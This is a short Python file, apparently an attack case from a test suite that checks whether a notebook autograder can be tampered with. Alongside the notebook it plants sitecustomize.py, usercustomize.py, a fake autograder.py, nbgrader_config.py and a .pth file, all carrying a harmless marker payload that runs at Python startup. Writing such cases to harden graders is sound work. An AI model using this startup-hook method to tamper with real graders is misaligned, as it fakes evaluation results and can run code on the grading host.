"""Modules that Python imports by itself when it starts.

class: tampering, sitecustomize
tries: runs code in any Python that starts in this folder
outcome: total 4, scaled 6
says: -
"""

from pathlib import Path

import nbformat
from nbformat import NotebookNode

CODE = "open('/var/tmp/attack-was-here', 'w').close()\n"


def hand_in(folder: Path, notebook: NotebookNode) -> None:
    """Ship start-up modules and path files."""
    nbformat.write(notebook, folder / "1_sums.ipynb")
    for name in ("sitecustomize.py", "usercustomize.py", "autograder.py", "nbgrader_config.py"):
        (folder / name).write_text(CODE)
    (folder / "own.pth").write_text("import os; " + CODE)
